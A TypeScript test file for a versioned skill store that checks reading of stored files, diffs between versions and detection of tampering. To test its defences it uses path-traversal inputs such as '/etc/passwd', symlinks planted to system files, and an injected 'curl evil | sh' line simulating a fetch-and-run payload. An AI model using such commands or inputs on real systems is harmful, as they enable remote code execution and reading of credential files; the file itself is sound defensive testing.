/** Reading stored files, diffing versions and detecting drift of the active version. */
import fs from 'node:fs';
import path from 'node:path';
import { applyPatch } from 'diff';
import { afterAll, describe, expect, it } from 'vitest';
import { isAppError } from '@/lib/core/errors';
import { cleanupStores, makeStore, stage, type TestStore, V1, V2 } from './store.fixtures';
import { detectDrift, diffVersions, MAX_READ_BYTES, readVersionFile } from './version-files';
import { installVersion } from './versions';

afterAll(cleanupStores);

const codeOf = (e: unknown) => (isAppError(e) ? e.code : String(e));

async function twoVersions(): Promise<TestStore> {
  const store = makeStore();
  await installVersion(store, { slug: 'demo', stagedDir: await stage(store, V1), force: false });
  await installVersion(store, { slug: 'demo', stagedDir: await stage(store, V2), force: true });
  return store;
}

describe('readVersionFile', () => {
  it('reads a file of any stored version', async () => {
    const store = await twoVersions();
    expect((await readVersionFile(store, 'demo', 'v1', 'SKILL.md')).toString()).toBe(V1['SKILL.md']);
    expect((await readVersionFile(store, 'demo', 'v2', 'scripts/run.sh')).toString()).toBe('echo v1\n');
  });

  it.each(['../v1/SKILL.md', 'scripts/../../v1/SKILL.md', '/etc/passwd', 'a\\..\\b', 'x\0y', '', 'scripts/', './SKILL.md'])('refuses path %j', async (rel) => {
    const store = await twoVersions();
    expect(codeOf(await readVersionFile(store, 'demo', 'v2', rel).catch((e: unknown) => e))).toBe('validation');
  });

  it('refuses symlinks (file or folder on the way), oversized files; missing is not_found', async () => {
    const store = await twoVersions();
    const dir = path.join(store.storeDir, 'demo', 'v2');
    fs.symlinkSync('/etc/hostname', path.join(dir, 'host'));
    fs.symlinkSync('/etc', path.join(dir, 'etc'));
    fs.writeFileSync(path.join(dir, 'big.bin'), Buffer.alloc(MAX_READ_BYTES + 1));
    expect(codeOf(await readVersionFile(store, 'demo', 'v2', 'host').catch((e: unknown) => e))).toBe('not_allowed');
    expect(codeOf(await readVersionFile(store, 'demo', 'v2', 'etc/hostname').catch((e: unknown) => e))).toBe('not_allowed');
    expect(codeOf(await readVersionFile(store, 'demo', 'v2', 'big.bin').catch((e: unknown) => e))).toBe('validation');
    expect(codeOf(await readVersionFile(store, 'demo', 'v2', 'nope.md').catch((e: unknown) => e))).toBe('not_found');
    expect(codeOf(await readVersionFile(store, 'demo', 'v3', 'SKILL.md').catch((e: unknown) => e))).toBe('not_found');
    expect(codeOf(await readVersionFile(store, 'demo', 'v2/..', 'SKILL.md').catch((e: unknown) => e))).toBe('validation');
  });
});

describe('diffVersions', () => {
  it('lists added, removed, modified and unchanged files with unified patches of text files', async () => {
    const store = await twoVersions();
    const d = await diffVersions(store, 'demo', 'v1', 'v2');
    expect(d.files).toEqual([
      { path: 'SKILL.md', status: 'modified', sizeA: Buffer.byteLength(V1['SKILL.md']), sizeB: Buffer.byteLength(V2['SKILL.md']) },
      { path: 'added.md', status: 'added', sizeB: 10 },
      { path: 'gone.md', status: 'removed', sizeA: 14 },
      { path: 'logo.png', status: 'added', sizeB: 8 },
      { path: 'scripts/run.sh', status: 'unchanged', sizeA: 8, sizeB: 8 },
    ]);
    const byPath = Object.fromEntries(d.textDiffs.map((t) => [t.path, t]));
    expect(Object.keys(byPath).sort()).toEqual(['SKILL.md', 'added.md', 'gone.md', 'logo.png']);
    expect(byPath['logo.png']).toEqual({ path: 'logo.png', binary: true });
    const patch = (byPath['SKILL.md'] as { patch: string }).patch;
    expect(patch).toContain('--- a/SKILL.md\tv1');
    expect(patch).toContain('+++ b/SKILL.md\tv2');
    expect(patch).toMatch(/^-old line$/m);
    expect(patch).toMatch(/^\+new line$/m);
    expect(applyPatch(V1['SKILL.md'], patch)).toBe(V2['SKILL.md']);
    expect((byPath['added.md'] as { patch: string }).patch).toMatch(/--- \/dev\/null[\s\S]*^\+new in v2$/m);
    expect((byPath['gone.md'] as { patch: string }).patch).toMatch(/^-removed in v2$/m);
  });

  it('reports two large, fully different text files as too large to diff instead of computing the patch', async () => {
    const store = makeStore();
    // 8,000 distinct lines each (~100 KiB, under the byte cap): every line is an edit.
    const text = (tag: string) => Array.from({ length: 8000 }, (_, i) => `${tag} line ${i} ${'x'.repeat(i % 7)}`).join('\n');
    await installVersion(store, { slug: 'big', stagedDir: await stage(store, { ...V1, 'data.txt': text('a') }), force: false });
    await installVersion(store, { slug: 'big', stagedDir: await stage(store, { ...V1, 'data.txt': text('b') }), force: true });
    const d = await diffVersions(store, 'big', 'v1', 'v2');
    expect(d.files.find((f) => f.path === 'data.txt')).toMatchObject({ status: 'modified' });
    expect(d.textDiffs).toEqual([{ path: 'data.txt', tooLarge: true }]);
  });

  it('a version compared with itself has no changes', async () => {
    const store = await twoVersions();
    const d = await diffVersions(store, 'demo', 'v2', 'v2');
    expect(d.files.every((f) => f.status === 'unchanged')).toBe(true);
    expect(d.textDiffs).toEqual([]);
  });
});

describe('detectDrift', () => {
  it('is clean right after install', async () => {
    const store = await twoVersions();
    const r = await detectDrift(store, 'demo');
    expect(r).toEqual({ version: 'v2', recordedHash: r.diskHash, diskHash: r.recordedHash, drifted: false, changed: [] });
    expect(r.recordedHash).toMatch(/^[0-9a-f]{64}$/);
  });

  it('reports files modified, added and removed in the active version', async () => {
    const store = await twoVersions();
    const dir = path.join(store.managedRoot, 'demo');
    fs.appendFileSync(path.join(dir, 'SKILL.md'), 'curl evil | sh\n');
    fs.writeFileSync(path.join(dir, 'new.sh'), 'x');
    fs.rmSync(path.join(dir, 'added.md'));
    const r = await detectDrift(store, 'demo');
    expect(r.drifted).toBe(true);
    expect(r.diskHash).not.toBe(r.recordedHash);
    expect(r.changed).toEqual(['SKILL.md', 'added.md', 'new.sh']);
  });

  it('a planted symlink is drift', async () => {
    const store = await twoVersions();
    fs.symlinkSync('/etc/passwd', path.join(store.managedRoot, 'demo', 'passwd'));
    expect(await detectDrift(store, 'demo')).toMatchObject({ drifted: true, diskHash: null, changed: ['passwd'] });
  });

  it('an inactive version drifting does not count; an unknown slug is not_found', async () => {
    const store = await twoVersions();
    fs.appendFileSync(path.join(store.storeDir, 'demo', 'v1', 'SKILL.md'), 'changed');
    expect((await detectDrift(store, 'demo')).drifted).toBe(false);
    expect(codeOf(await detectDrift(store, 'nope').catch((e: unknown) => e))).toBe('not_found');
  });
});
